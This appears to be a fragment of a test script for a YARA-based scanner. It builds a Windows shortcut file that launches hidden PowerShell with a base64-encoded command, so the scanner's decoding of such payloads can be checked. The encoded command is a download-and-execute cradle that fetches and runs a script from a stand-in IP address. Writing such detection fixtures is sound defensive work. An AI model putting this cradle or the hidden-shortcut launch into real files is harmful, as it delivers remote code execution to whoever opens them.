# A shortcut that runs `powershell -enc <base64 of UTF-16LE>` (the usual
# LNK campaign): the encoded command is decoded into a child of its own, so
# YARA sees the download cradle and not its base64.
ENC=$($PY -c 'import base64,sys; print(base64.b64encode("IEX (New-Object Net.WebClient).DownloadString(\"http://203.0.113.9/p.ps1\")".encode("utf-16-le")).decode())')
$PY "$FIXTURES/mklnk.py" "$OUT" --target 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' \
    --args "-nop -w hidden -enc $ENC"
